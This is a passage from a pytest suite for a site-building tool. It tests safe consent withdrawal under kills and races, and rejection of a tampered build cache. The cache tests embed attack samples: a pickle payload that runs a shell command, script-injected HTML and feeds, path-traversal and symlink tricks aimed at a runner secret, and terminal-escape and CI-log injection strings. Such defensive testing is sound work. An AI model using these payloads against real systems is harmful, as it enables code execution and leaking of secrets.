        "main(['withdraw', 'anna-de-boer', '--yes'], prog_name='podium')\n"
    )
    proc = subprocess.run(
        [sys.executable, "-c", script], cwd=project, capture_output=True, text=True, timeout=120
    )
    assert "Traceback" not in proc.stderr, proc.stderr
    assert [p.name for p in content.rglob("*withdrawn-*")] == []
    stories = [content / "interviews" / n for n in ("anna-de-boer.md", "anna-de-boer.en.md")]
    record = (content / "withdrawn.yml").read_text("utf-8")
    if all(p.exists() for p in stories):
        assert snapshot(content) == before, "half withdrawn"
    else:
        assert not any(p.exists() for p in stories) and "anna-de-boer" in record


@pytest.mark.parametrize("step, at", [("move", 2), ("move", 3), ("move", 4), ("unlink", 1)])
def test_a_withdrawal_killed_half_way_is_said_and_finished_by_the_next(project, step, at):
    """SIGKILL (the OOM killer, a power cut) cannot be waited for: a withdrawal
    killed after its record was written left files of the story moved aside
    as hidden .NAME.withdrawn-PID files. podium check said of a story's "is
    not a story (stories are .md files)", of the portrait nothing, and the next
    withdraw left them: the person's face stayed in content/ for git add. Now
    check says what each is and what to run; withdraw finishes them, since the
    record (written first) names the story."""
    content = project / "content"
    photo = content / "images" / "people" / "anna.jpg"
    photo.parent.mkdir(parents=True)
    gps_jpeg(project, photo)
    for name in ("anna-de-boer.md", "anna-de-boer.en.md"):
        path = content / "interviews" / name
        path.write_text(
            path.read_text("utf-8").replace(
                "team: engineering", "team: engineering\nphoto: images/people/anna.jpg"
            ),
            "utf-8",
        )
    script = (
        "import os, signal, podium_cli.withdraw as w\n"
        "real_move, real_unlink, done = w._move, os.unlink, {'move': 0, 'unlink': 0}\n"
        "def stop(step):\n"
        "    done[step] += 1\n"
        f"    if step == {step!r} and done[step] == {at}:\n"
        "        os.kill(os.getpid(), signal.SIGKILL)\n"
        "def move(source, target):\n"
        "    real_move(source, target)\n"
        "    stop('move')\n"
        "def unlink(path, *args, **kwargs):\n"
        "    real_unlink(path, *args, **kwargs)\n"
        "    if '.withdrawn-' in str(path):\n"
        "        stop('unlink')\n"
        "w._move, os.unlink = move, unlink\n"
        "from podium_cli.cli import main\n"
        "main(['withdraw', 'anna-de-boer', '--yes'], prog_name='podium')\n"
    )
    proc = subprocess.run(
        [sys.executable, "-c", script], cwd=project, capture_output=True, text=True, timeout=120
    )
    assert proc.returncode == -signal.SIGKILL, proc.stderr
    left = sorted(p.relative_to(project).as_posix() for p in content.rglob("*withdrawn-*"))
    assert left, "the kill came too late to leave anything aside"
    checked = _check()
    for path in left:
        (line,) = [x for x in checked.output.splitlines() if x.startswith(f"{path}:")]
        assert line.startswith(f"{path}: warning: a podium withdraw ")
        assert "stopped half way" in line and "not published" in line, line
        assert "podium withdraw anna-de-boer --yes" in line or "delete it" in line, line
    (project / ".git").mkdir()  # a checkout: withdraw names what git history still holds
    result = _withdraw()
    assert result.exit_code == 0, result.output
    (note,) = [x for x in result.output.splitlines() if x.startswith("note: git history")]
    named = {arg.split(" ")[0].rstrip(",") for arg in note.split("--path ")[1:]}
    for path in left:
        assert f"removed {path} (left by a podium withdraw" in result.output
        name = re.fullmatch(r"\.(.+)\.withdrawn-[0-9]+", Path(path).name).group(1)
        assert (Path(path).parent / name).as_posix() in named, note
    assert [p.name for p in content.rglob("*withdrawn-*")] == []
    assert not list((content / "interviews").glob("anna-de-boer*")) and not photo.exists()
    assert "anna-de-boer" in (content / "withdrawn.yml").read_text("utf-8")


def test_the_record_copy_of_a_withdrawal_killed_while_writing_it_is_removed(project):
    """Killed while it wrote withdrawn.yml (a temporary copy, then a rename): the
    copy, half a list of slugs, stayed in content/ as .withdrawn.yml.XXXXXXXX, for
    git add content/ to commit; the next withdraw removes it."""
    content = project / "content"
    copy = content / ".withdrawn.yml.k3j4h5g6"
    copy.write_text("withdrawn:\n- slug: anna-de-bo", "utf-8")
    mine = content / ".withdrawn.yml.notes"  # not a name tempfile gives
    mine.write_text("mine\n", "utf-8")
    result = _withdraw("ben-bakker")
    assert result.exit_code == 0, result.output
    assert result.output.splitlines()[0] == (
        "removed content/.withdrawn.yml.k3j4h5g6 (an unfinished copy of content/withdrawn.yml "
        "left by a podium withdraw that was stopped)"
    )
    assert not copy.exists() and mine.is_file()


def test_files_a_killed_withdrawal_left_are_put_back_once_its_record_is_undone(project):
    """The record put back as it was (git checkout content/withdrawn.yml) after a
    withdrawal was killed half way: the story is not withdrawn, so the next
    withdraw (of another story) puts its files back where they were."""
    content = project / "content"
    record = content / "withdrawn.yml"
    before, story = record.read_bytes(), content / "interviews" / "anna-de-boer.en.md"
    story.rename(story.with_name(".anna-de-boer.en.md.withdrawn-4242"))
    result = _withdraw("ben-bakker")
    assert result.exit_code == 0, result.output
    assert result.output.splitlines()[0] == (
        "put back content/interviews/anna-de-boer.en.md (left aside by a podium withdraw "
        "that was stopped; content/withdrawn.yml does not name anna-de-boer)"
    )
    assert story.is_file() and [p.name for p in content.rglob("*withdrawn-*")] == []
    assert record.read_bytes() != before and b"anna-de-boer" not in record.read_bytes()


def _withdraw_while_another_does(project, tmp_path, first: str, second: str) -> str:
    """`podium withdraw FIRST --yes`, paused once it has planned (the record
    read, nothing written yet), and meanwhile `podium withdraw SECOND --yes`;
    both must end well. What the second said on stderr."""
    ready, go = tmp_path / "ready", tmp_path / "go"
    script = (
        "import time, podium_cli.withdraw as w\n"
        "from pathlib import Path\n"
        "real = w._apply\n"
        "def paused(*args, **kwargs):  # planned, the record read; nothing written yet\n"
        f"    Path({str(ready)!r}).touch()\n"
        "    deadline = time.monotonic() + 120\n"
        f"    while not Path({str(go)!r}).exists() and time.monotonic() < deadline:\n"
        "        time.sleep(0.05)\n"
        "    return real(*args, **kwargs)\n"
        "w._apply = paused\n"
        "from podium_cli.cli import main\n"
        f"main(['withdraw', {first!r}, '--yes'], prog_name='podium')\n"
    )
    first_run = subprocess.Popen(
        [sys.executable, "-c", script],
        cwd=project,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    deadline = time.monotonic() + 120
    while not ready.exists():
        assert first_run.poll() is None and time.monotonic() < deadline, first_run.communicate()
        time.sleep(0.05)
    said = tmp_path / "second.err"
    with said.open("w") as err:
        second_run = subprocess.Popen(
            [sys.executable, "-m", "podium_cli", "withdraw", second, "--yes"],
            cwd=project, stdout=err, stderr=err, text=True,
        )  # fmt: skip
        while second_run.poll() is None and "waiting" not in said.read_text("utf-8"):
            assert time.monotonic() < deadline, "the second withdraw neither ended nor waited"
            time.sleep(0.05)
        go.touch()
        _, first_err = first_run.communicate(timeout=120)
        second_run.wait(timeout=120)
    codes = (first_run.returncode, second_run.returncode)
    assert codes == (0, 0), first_err + said.read_text("utf-8")
    return said.read_text("utf-8")


def test_two_withdrawals_at_once_both_stay_recorded(project, tmp_path):
    """Two `podium withdraw` runs at once (two consent withdrawals handled by a
    script): each read withdrawn.yml, then wrote it with its own entry added, and
    the one that wrote last dropped the other's. That story's files were gone
    and its URLs, with no tombstone, answered 404. The second now waits for the
    first, saying so in one line, and adds to what the first wrote."""
    import yaml

    said = _withdraw_while_another_does(project, tmp_path, "anna-de-boer", "ben-bakker")
    record = yaml.safe_load((project / "content" / "withdrawn.yml").read_text("utf-8"))
    slugs = {entry["slug"] for entry in record["withdrawn"]}
    assert {"anna-de-boer", "ben-bakker", "teruggetrokken-verhaal"} <= slugs, slugs
    assert said.splitlines()[0] == (
        "podium: waiting for another command changing content/ to finish"
    )


def test_two_withdrawals_at_once_of_stories_sharing_a_photo_remove_it(project, tmp_path):
    """Two stories with one portrait, withdrawn at once (a colleague's consent
    ended, a script withdrawing each of their stories). The second read content/
    before waiting for the first, so it still saw the first's story using the
    photo, as the first saw the second's: both kept it, and the portrait of a
    colleague who withdrew stayed in content/ and in git. The second reads
    content/ again once it holds it, as the first left it."""
    photo = project / "content" / "images" / "people" / "anna-de-boer.jpg"
    gps_jpeg(project, photo.parent.mkdir(parents=True) or photo)
    for name in ("interviews/anna-de-boer.md", "interviews/anna-de-boer.en.md",
                 "columns/ben-bakker.md"):  # fmt: skip
        path = project / "content" / name
        text = path.read_text("utf-8")
        path.write_text(
            text.replace("\n---\n", "\nphoto: images/people/anna-de-boer.jpg\n---\n", 1), "utf-8"
        )
    # Both hers: a story's photo is its author's portrait (another's is an error).
    column = project / "content" / "columns" / "ben-bakker.md"
    column.write_text(
        re.sub(r"(?m)^author: .*$", "author: Anna de Boer", column.read_text("utf-8"), count=1),
        "utf-8",
    )
    checked = CliRunner().invoke(main, ["check"])
    assert checked.exit_code == 0, checked.output
    _withdraw_while_another_does(project, tmp_path, "anna-de-boer", "ben-bakker")
    assert not photo.exists()


def test_the_same_story_withdrawn_twice_at_once_is_withdrawn_once(project, tmp_path):
    """A script that withdrew a story twice at once (a retry): the second had
    planned before the first removed the files, and failed on them, "cannot
    remove it (No such file or directory)", exit 1. Now it says the story is
    withdrawn already, as a second run after the first does."""
    said = _withdraw_while_another_does(project, tmp_path, "ben-bakker", "ben-bakker")
    assert "ben-bakker is already withdrawn" in said, said


# -- the parse cache -----------------------------------------------------------------------------


def _entries(site: Path) -> list[Path]:
    return sorted((site / ".podium-cache" / "parsed").glob("*.json"))


def test_the_parse_cache_is_plain_json(project):
    assert _build().exit_code == 0
    entries = _entries(project)
    assert entries and not list((project / ".podium-cache").rglob("*.pickle"))
    for entry in entries:
        data = json.loads(entry.read_text("utf-8"))["D"]  # a tagged dict (podium_read.codec)
        assert set(data) == {"key", "story", "body", "issues", "summary", "quote", "source", "refs"}


def test_a_hostile_or_corrupt_cache_entry_is_a_miss(project):
    import podium_read.parse as parse

    assert _build().exit_code == 0
    pages_before = snapshot(project / "output")
    pwned = project.parent / "pwned"
    pickle_bomb = (
        b"cos\nsystem\n(S'touch " + str(pwned).encode() + b"'\ntR."
    )  # what a pickle entry could do
    entries = _entries(project)
    for n, entry in enumerate(entries):
        data = json.loads(entry.read_text("utf-8"))
        fields = data["D"]
        if n % 3 == 0:
            entry.write_bytes(pickle_bomb)
        elif n % 3 == 1:
            entry.write_text("{not json", "utf-8")
        elif fields["body"] is not None:
            # A well-formed entry with the right key but HTML the sanitiser
            # would never let through: it must not reach a page.
            fields["body"]["f"]["html"] = {"M": "<script>PWNED()</script>"}
            fields["body"]["f"]["intro"] = {"M": "<p>PWNED<script>PWNED()</script></p>"}
            entry.write_text(json.dumps(data), "utf-8")
    parse._memo.clear()  # a new process, as the next build: else no entry is read
    assert _build().exit_code == 0
    assert not pwned.exists()
    after = snapshot(project / "output")
    assert not any(b"PWNED" in v for v in after.values())
    # The pages are what a clean parse gives.
    assert {k: v for k, v in after.items() if k.endswith(".html")} == {
        k: v for k, v in pages_before.items() if k.endswith(".html")
    }


@pytest.mark.parametrize("link", ["{static}/../secret.txt", "|attach|/columns/ben-bakker.md"])
def test_a_cache_entry_with_pelican_link_syntax_is_a_miss(project, link):
    """A planted entry's HTML may hold what the sanitiser keeps and the reader
    never lets through: a {static} link, which Pelican copies (a file outside
    content/ ended the build in "podium: error: ValueError: ... is not in the
    subpath of ..."; a story file in content/ in "is linked as a static file").
    Such an entry is a miss: a restored cache costs time, never the build."""
    import podium_read.parse as parse

    assert _build().exit_code == 0
    (project / "secret.txt").write_text("RUNNER SECRET", "utf-8")
    pages_before = snapshot(project / "output")
    planted = f'<p><a href="{link}" rel="noopener noreferrer">PLANTED</a></p>'
    for entry in _entries(project):
        data = json.loads(entry.read_text("utf-8"))
        body = data["D"]["body"]
        if body is not None and not body["f"]["qa"]["L"]:
            body["f"]["html"]["M"] += planted
            entry.write_text(json.dumps(data), "utf-8")
    parse._memo.clear()  # a new process, as the next build
    result = _build()
    assert result.exit_code == 0, result.output
    after = snapshot(project / "output")
    assert not any(b"PLANTED" in v or b"RUNNER SECRET" in v for v in after.values())
    assert {k: v for k, v in after.items() if k.endswith(".html")} == {
        k: v for k, v in pages_before.items() if k.endswith(".html")
    }


def _planted_in_entries(project: Path, plant) -> str:
    """Build, ``plant(body, entry)`` into every cached parse with a body, build
    again as a new process would: that build passes and its output is the first
    one's. What it printed."""
    import podium_read.parse as parse

    assert _build().exit_code == 0
    pages_before = snapshot(project / "output")
    for entry in _entries(project):
        data = json.loads(entry.read_text("utf-8"))
        if data["D"]["body"] is not None:
            plant(data["D"]["body"]["f"], data["D"])
            entry.write_text(json.dumps(data), "utf-8")
    parse._memo.clear()  # a new process, as the next build
    result = _build()
    assert result.exit_code == 0, result.output
    assert snapshot(project / "output") == pages_before
    return result.output


@pytest.mark.parametrize(
    ("target", "kind"),
    [
        ("columns/ben-bakker.md", "image"),  # a story file, to be published as a picture
        ("../../../etc/passwd", "image"),
        ("images/team.jpg", "file"),  # an image as an attachment, no magic to match
        ("images/./team.jpg", "image"),  # not a path the reader writes
    ],
)
def test_a_cache_entry_linking_a_file_the_reader_never_would_is_a_miss(project, target, kind):
    """A planted entry (no PODIUM_CACHE_KEY) of the right shape may list linked
    files of its own, which the images step publishes checked as their kind:
    a story file as an "image" failed the build on the story's line ("link to
    content/columns/ben-bakker.md: the file is not an image Pillow can read"),
    so a restored cache stopped the nightly takedowns. Such an entry is a miss."""
    link = {"C": "Link", "f": {"target": target, "kind": kind, "line": 11, "size": None}}
    _planted_in_entries(project, lambda body, _data: body["links"]["L"].append(link))


def test_a_cache_entry_linking_a_story_that_is_not_there_is_a_miss(project):
    """A planted entry (no PODIUM_CACHE_KEY) may list a {filename} link of its
    own: one to a story file that is not there failed the build ("link to
    content/columns/nope.md: there is no story file ..."), the nightly
    takedowns with it. Such an entry is a miss, and the story is parsed again."""
    link = {"C": "Link", "f": {"target": "columns/nope.md", "kind": "story", "line": 11,
                               "size": None}}  # fmt: skip
    said = _planted_in_entries(project, lambda body, _data: body["story_links"]["L"].append(link))
    assert "nope.md" not in said


def test_a_cache_entry_holding_an_error_is_a_miss(project):
    """A planted entry (no PODIUM_CACHE_KEY) may hold issues of its own: one
    error ("content/interviews/anna-de-boer.md:3: error: PLANTED") failed the
    build, and the nightly takedowns with it. An entry is stored with warnings
    only (a story with an error fails the build parsed again or not), so one
    holding an error is a miss, and the story is parsed again."""
    where = "content/interviews/anna-de-boer.md"
    planted = {"path": where, "line": 3, "message": "PLANTED", "severity": "error"}
    said = _planted_in_entries(
        project, lambda _body, data: data["issues"]["L"].append({"C": "Issue", "f": planted})
    )
    assert "PLANTED" not in said


def test_a_story_with_an_error_leaves_no_cache_entry(project):
    story_file = project / "content" / "columns" / "ben-bakker.md"
    story_file.write_text(story_file.read_text("utf-8").replace("title:", "titel:", 1), "utf-8")
    assert _build().exit_code == 1
    kept = [json.loads(e.read_text("utf-8"))["D"]["issues"]["L"] for e in _entries(project)]
    assert kept and not [i for issues in kept for i in issues if i["f"]["severity"] != "warning"]


def _with_photo_and_linked_image(project: Path) -> None:
    """Anna gets a portrait, and her story links an image with {static}."""
    images = project / "content" / "images"
    images.mkdir(exist_ok=True)
    gps_jpeg(project, images / "anna.jpg")
    gps_jpeg(project, images / "team.jpg")
    story_file = project / "content" / "interviews" / "anna-de-boer.md"
    text = story_file.read_text("utf-8").replace("lang: nl", "lang: nl\nphoto: images/anna.jpg")
    story_file.write_text(text + "\n![Het team]({static}/images/team.jpg)\n", "utf-8")


def test_links_planted_in_the_photo_cache_publish_nothing(project, tmp_path):
    """A restored .podium-cache is not trusted: a symlink in the photo cache (a
    variant, a photo's folder, the photos folder, a re-encoded linked image)
    never puts a file of the build machine on the site."""
    _with_photo_and_linked_image(project)
    assert _build().exit_code == 0
    secret = tmp_path / "runner-secret"
    secret.write_bytes(b"\xff\xd8\xff RUNNER SECRET")  # even with a JPEG's first bytes
    photos = project / ".podium-cache" / "photos"
    (folder,) = [p for p in photos.iterdir() if p.is_dir() and p.name != "linked"]
    variant = next(folder.glob("*.jpg"))
    variant.unlink()
    variant.symlink_to(secret)
    (linked,) = (photos / "linked").iterdir()
    linked.unlink()
    linked.symlink_to(secret)
    assert _build().exit_code == 0
    assert not any(b"RUNNER SECRET" in v for v in snapshot(project / "output").values())
    assert not variant.is_symlink() and not linked.is_symlink()  # made again

    # A photo's whole folder, then the photos folder itself, as a link elsewhere.
    elsewhere = tmp_path / "elsewhere"
    shutil.copytree(folder, elsewhere)
    for path in elsewhere.iterdir():
        path.unlink()
        path.symlink_to(secret)
    shutil.rmtree(folder)
    folder.symlink_to(elsewhere, target_is_directory=True)
    assert _build().exit_code == 0
    assert not any(b"RUNNER SECRET" in v for v in snapshot(project / "output").values())
    assert not folder.is_symlink() and all(p.is_symlink() for p in elsewhere.iterdir())
    shutil.rmtree(photos)
    photos.symlink_to(elsewhere.parent, target_is_directory=True)
    assert _build().exit_code == 0
    assert not any(b"RUNNER SECRET" in v for v in snapshot(project / "output").values())
    assert not photos.is_symlink()


def test_a_planted_photo_verdict_still_ends_in_one_line_naming_the_photo(project):
    """The photo checks are kept in the cache; a verdict planted there ("no
    problem") for a damaged photo must not let it through, nor crash the build."""
    from podium import photo_checks

    _with_photo_and_linked_image(project)
    photo = project / "content" / "images" / "anna.jpg"
    damaged = photo.read_bytes()[:300]
    photo.write_bytes(damaged)
    entry = photo_checks._entry(project / ".podium-cache", hashlib.sha256(damaged).digest())
    entry.parent.mkdir(parents=True, exist_ok=True)
    entry.write_text(json.dumps({"problem": None, "personal": [], "side": 600, "frames": 1}))
    result = _build()
    assert result.exit_code == 1
    errors = [line for line in result.output.splitlines() if ": error: " in line]
    assert errors == [
        "content/images/anna.jpg: error: photo is not a readable image: "
        "Truncated File Read; save it again"
    ], result.output
    assert "Traceback" not in result.output and not (project / "output").exists()


def test_a_planted_photo_verdict_with_a_problem_does_not_fail_the_build(project):
    """A verdict planted for a good photo ("problem": "PLANTED") refused it:
    "field "photo": content/images/anna.jpg PLANTED", and the build failed, the
    nightly takedowns with it. A verdict with a problem is never kept (the
    build fails on it, checked again or not), so a kept one is a miss."""
    from podium import photo_checks

    _with_photo_and_linked_image(project)
    photo = project / "content" / "images" / "anna.jpg"
    entry = photo_checks._entry(
        project / ".podium-cache", hashlib.sha256(photo.read_bytes()).digest()
    )
    entry.parent.mkdir(parents=True, exist_ok=True)
    entry.write_text(json.dumps({"problem": "PLANTED", "personal": [], "side": 600, "frames": 1}))
    result = _build()
    assert result.exit_code == 0 and "PLANTED" not in result.output, result.output


def test_a_file_planted_as_a_cached_card_is_rendered_again(project):
    """A card in a restored cache must start as a JPEG does; a page or a script
    planted under a card's name is never published as the card."""
    assert _build().exit_code == 0
    cards = project / ".podium-cache" / "cards"
    card = next(cards.glob("*.jpg"))
    good = card.read_bytes()
    card.unlink()  # the site holds a hard link to it: replace, never edit
    card.write_bytes(b"<html><script>alert('PLANTED')</script></html>")
    assert _build().exit_code == 0
    assert card.read_bytes() == good  # rendered again, the same bytes
    assert not any(b"PLANTED" in v for v in snapshot(project / "output").values())


def test_a_planted_card_warnings_record_reaches_no_log(project):
    """Each cached card's warnings are kept in .podium-cache/card-warnings.json and
    said again when the card is reused. A record planted there was printed as it
    was: terminal escapes (ESC[2J clears the screen, ESC]8 makes a link) and a
    flood of lines reached the build's log under a story's name. A build never
    writes a control character, a line break or a warning of that size: such a
    record is left out, so the card is drawn again and says what it says."""
    assert CliRunner().invoke(main, ["build"], catch_exceptions=False).exit_code == 0
    record = project / ".podium-cache" / "card-warnings.json"
    names = list(json.loads(record.read_text("utf-8")))
    planted = ["\x1b[2J\x1b]8;;https://evil.example/\x07PLANTED\x1b]8;;\x07",
               "title\n::error file=x::PLANTED", "PLANTED " * 2000, *["PLANTED"] * 100]  # fmt: skip
    record.write_text(json.dumps({n: planted for n in names}), "utf-8")
    result = CliRunner().invoke(main, ["build"], catch_exceptions=False)
    assert result.exit_code == 0
    assert "PLANTED" not in result.output and "\x1b" not in result.output, result.output[:500]
    assert "PLANTED" not in record.read_text("utf-8")  # the cards' own (none) kept again


@pytest.mark.parametrize(
    "planted",
    [
        b'<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom">'
        b'<html:script xmlns:html="http://www.w3.org/1999/xhtml">alert("PLANTED")</html:script>'
        b"</feed>",
        b'<?xml version="1.0" encoding="utf-8"?>\n<?xml-stylesheet type="text/xsl" '
        b'href="data:text/xsl,PLANTED"?><feed xmlns="http://www.w3.org/2005/Atom"/>',
        # Plain Atom read as UTF-16, which a host serving the file as UTF-8 would not.
        '<?xml version="1.0" encoding="utf-16"?><feed xmlns="http://www.w3.org/2005/Atom">'
        "<title>PLANTED</title></feed>".encode("utf-16"),
    ],
    ids=["xhtml-script", "stylesheet", "utf-16"],
)
def test_a_feed_planted_in_the_cache_is_written_again(project, planted):
    """The Atom feeds are kept in the cache under a hash of public inputs and
    linked into the output as they are. A feed planted under its name was
    published: a browser opening /feeds/stories.atom.xml runs an XHTML
    <script> in it (or an <?xml-stylesheet?>'s XSLT) on the hub's address."""
    assert _build().exit_code == 0
    feed = project / "output" / "feeds" / "stories.atom.xml"
    good = feed.read_bytes()
    (cached,) = [p for p in (project / ".podium-cache" / "feeds").iterdir() if p.samefile(feed)]
    cached.unlink()  # the site holds a hard link to it: replace, never edit
    cached.write_bytes(planted)
    assert _build().exit_code == 0
    assert feed.read_bytes() == good  # written again, the same bytes
    assert cached.read_bytes() == good


def test_a_pdf_planted_as_a_cleaned_copy_is_cleaned_again(project):
    """A linked PDF's cleaned copy is kept in the cache under a hash of public
    inputs (the file and the code). The original, scripts and metadata and all,
    planted under that name was published as it was: only its shape was checked."""
    conf = project / "pelicanconf.py"
    conf.write_text(conf.read_text("utf-8") + '\nPODIUM_ATTACHMENTS = ["pdf"]\n', "utf-8")
    files = project / "content" / "files"
    files.mkdir()
    (files / "cv.pdf").write_bytes(boundary.pdf_with_scripts())
    story_file = project / "content" / "interviews" / "anna-de-boer.md"
    story_file.write_text(story_file.read_text("utf-8") + "\n[cv]({static}/files/cv.pdf)\n")
    assert _build().exit_code == 0
    published = project / "output" / "media" / "files" / "cv.pdf"
    good = published.read_bytes()
    (cached,) = (project / ".podium-cache" / "photos" / "linked").glob("*.pdf")
    cached.unlink()  # the site may hold a hard link to it: replace, never edit
    cached.write_bytes(boundary.pdf_with_scripts())
    assert _build().exit_code == 0
    assert published.read_bytes() == good  # cleaned again, the same bytes
    boundary.pdf_without_scripts(project / "output")


def test_cached_images_cut_short_are_made_again(project):
    """A card, portrait or linked image cut short in the cache (a cache saved while
    a build was killed, a partly restored CI cache) starts as its format does: it
    was published as a broken image, since only the first bytes were checked."""
    _with_photo_and_linked_image(project)
    assert _build().exit_code == 0
    cache = project / ".podium-cache"
    images = [p for p in cache.rglob("*") if p.suffix in (".jpg", ".webp", ".png")]
    assert {p.relative_to(cache).parts[0] for p in images} == {"cards", "photos"}
    assert any("linked" in p.parts for p in images)
    good = {p: p.read_bytes() for p in images}
    for path, data in good.items():
        path.unlink()  # the site holds hard links: replace, never edit
        path.write_bytes(data[: len(data) // 2])
    assert _build().exit_code == 0
    for path, data in good.items():
        assert path.read_bytes() == data, path  # made again, the same bytes
    site = snapshot(project / "output")
    for name, data in site.items():
        if name.endswith(".jpg"):
            assert data.endswith(b"\xff\xd9"), name
        if name.endswith(".webp"):
            assert int.from_bytes(data[4:8], "little") + 8 == len(data), name


def _planted_image(good: bytes, fmt: str, size: tuple[int, int] | None = None) -> bytes:
    """A well-formed image of ``fmt`` the size of ``good`` (or ``size``), with a
    GPS position and a camera name in its EXIF, as any phone writes one."""
    import io

    from PIL import Image

    with Image.open(io.BytesIO(good)) as im:
        size = size or im.size
    exif = Image.Exif()
    exif[0x010F] = "PLANTED-CAMERA"
    exif.get_ifd(0x8825)[2] = (52.0, 22.0, 1.0)
    buf = io.BytesIO()
    Image.new("RGB", size, (200, 0, 0)).save(buf, fmt, exif=exif)
    return buf.getvalue()


@pytest.mark.parametrize("planted", ["with-gps", "wrong-size"])
def test_well_formed_images_planted_in_the_cache_are_made_again(project, planted):
    """A card, portrait or linked image in a restored cache was checked for its
    shape only (first and last bytes): a well-formed JPEG planted under its name,
    a phone photo with its GPS position or a picture of any size, was published
    as the story's card or the author's portrait. A cached image is now used only
    as the build encodes it: its format and size, no EXIF, XMP, ICC or comment."""
    _with_photo_and_linked_image(project)
    assert _build().exit_code == 0
    cache = project / ".podium-cache"
    images = [p for p in cache.rglob("*") if p.suffix in (".jpg", ".webp", ".png")]
    assert {p.relative_to(cache).parts[0] for p in images} == {"cards", "photos"}
    good = {p: p.read_bytes() for p in images}
    for path, data in good.items():
        fmt = {".jpg": "JPEG", ".webp": "WEBP", ".png": "PNG"}[path.suffix]
        path.unlink()  # the site holds hard links: replace, never edit
        path.write_bytes(_planted_image(data, fmt, (640, 480) if planted == "wrong-size" else None))
    assert _build().exit_code == 0
    for path, data in good.items():
        assert path.read_bytes() == data, path  # made again, the same bytes
    site = snapshot(project / "output")
    assert not any(b"PLANTED-CAMERA" in v for v in site.values())
    # What the build made itself passes the check: the next build reuses every file.
    made = {p: p.stat().st_ino for p in good}
    assert _build().exit_code == 0
    assert {p: p.stat().st_ino for p in good} == made


def test_no_module_loads_state_with_pickle_or_marshal():
    offenders = [
        str(p.relative_to(ROOT))
        for p in (ROOT / "plugins").rglob("*.py")
        if any(
            f"import {m}" in (text := p.read_text("utf-8")) or f"{m}.load" in text
            for m in ("pickle", "marshal", "shelve")
        )
    ]
    assert offenders == []


def test_sound_cache_entries_are_hits(tmp_path):
    """The checks on load do not turn every entry into a miss (the cache still works)."""
    import podium_read.parse as parse
    from podium.settings import PodiumSettings
    from podium_validate.site import story_files, validate_site

    site = copy_site(tmp_path)
    content = site / "content"
    settings = PodiumSettings.from_pelican({"PODIUM_TODAY": "2026-11-01"})
    validate_site(content, settings)
    parse._memo.clear()
    parsed: list[Path] = []
    real = parse._parse

    def counting(path, *args):
        parsed.append(path)
        return real(path, *args)

    parse._parse = counting
    try:
        validate_site(content, settings)
    finally:
        parse._parse = real
    assert len(story_files(content)) >= 8 and parsed == []


def test_folders_planted_as_links_in_the_cache_send_no_write_elsewhere(project, tmp_path):
    """A restored .podium-cache is not trusted: its folders of parsed stories,
    tags, links and photo checks, planted as links to a folder elsewhere on the
    machine, neither receive the build's cache writes nor feed it their files."""
    assert _build().exit_code == 0
    cache = project / ".podium-cache"
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    planted = ["parsed", "tags", "links", "photo-checks"]
    for name in planted:
        if (cache / name).exists():
            shutil.copytree(cache / name, elsewhere / name)  # what they held, as bait
            shutil.rmtree(cache / name)
        (elsewhere / name).mkdir(exist_ok=True)
        (cache / name).symlink_to(elsewhere / name, target_is_directory=True)
    before = snapshot(elsewhere)
    story_file = project / "content" / "interviews" / "anna-de-boer.md"
    story_file.write_text(story_file.read_text("utf-8") + "\nNog een zin.\n", "utf-8")
    assert _build().exit_code == 0
    assert snapshot(elsewhere) == before  # nothing written there
    for name in planted:
        assert not (cache / name).is_symlink()
    assert (cache / "parsed").is_dir() and (cache / "tags").is_dir()


def test_a_cache_write_cut_off_leaves_no_temporary_file_for_good(project, tmp_path):
    """A build killed outright (SIGKILL, the OOM killer) while it replaced
    lastmod.json, whose URLs name the people pages, left
    .lastmod.json.x1y2z3.tmp in .podium-cache/ for good, carried from one CI
    run to the next after the person's page was gone. Now a build removes
    such a file once it is an hour old (a write takes milliseconds; another
    command may be writing one now), and a symlink by that name is removed,
    never followed."""
    assert _build().exit_code == 0
    cache = project / ".podium-cache"
    outside = tmp_path / "outside.txt"
    outside.write_text("the machine's own file", "utf-8")
    old = [cache / ".lastmod.json.x1y2z3.tmp", cache / "tags" / ".site.json.a1b2c3.tmp"]
    for path in old:
        path.write_text('{"/people/anna-de-boer/": 1}', "utf-8")
    link = cache / "links" / ".x.json.d4e5f6.tmp"
    link.parent.mkdir(exist_ok=True)
    link.symlink_to(outside)
    fresh = cache / ".card-warnings.json.q9w8e7.tmp"  # being written by another command
    fresh.write_text("{}", "utf-8")
    hours_ago = time.time() - 2 * 3600
    for path in [*old, link]:
        os.utime(path, (hours_ago, hours_ago), follow_symlinks=False)
    assert _build().exit_code == 0
    assert [p for p in [*old, link] if os.path.lexists(p)] == []
    assert fresh.exists()
    assert outside.read_text("utf-8") == "the machine's own file"


# -- podium new writes only inside content/ -----------------------------------------------

NEW_ARGS = ["new", "column", "--name", "Jan Jansen", "--role", "Monteur", "--team",
            "engineering", "--lang", "nl", "--title", "Mijn dag", "--consent-given",
            "2026-01-01", "--social"]  # fmt: skip


def _new(*extra: str):
    return CliRunner().invoke(main, [*NEW_ARGS, *extra], catch_exceptions=False)


def test_new_never_writes_through_a_dangling_symlink(project, tmp_path):
    """Path.exists() is False for a link to a missing file: writing it would create
    that file outside content/."""
    outside = tmp_path / "outside.md"
    (project / "content" / "columns" / "mijn-dag.md").symlink_to(outside)
    result = _new()
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert "content/columns/mijn-dag.md: error: exists already" in result.output
    assert not outside.exists()


def test_new_never_writes_a_photo_through_a_dangling_symlink(project, tmp_path):
    from PIL import Image

    source = tmp_path / "phone.jpg"
    Image.new("RGB", (40, 30), (9, 9, 9)).save(source)
    outside = tmp_path / "outside.jpg"
    people = project / "content" / "images" / "people"
    people.mkdir(parents=True, exist_ok=True)
    (people / "jan-jansen.jpg").symlink_to(outside)
    result = _new("--photo", str(source))
    # The taken name is passed over (never written through): the photo gets
    # the next free one, a plain file in content/.
    assert result.exit_code == 0, result.output
    assert not outside.exists()
    assert (people / "jan-jansen.jpg").is_symlink()
    assert not (people / "jan-jansen-2.jpg").is_symlink()
    assert (people / "jan-jansen-2.jpg").is_file()
    assert "photo: images/people/jan-jansen-2.jpg" in (
        project / "content" / "columns" / "mijn-dag.md"
    ).read_text(encoding="utf-8")


def test_new_leaves_no_photo_behind_when_the_story_is_refused(project, tmp_path):
    from PIL import Image

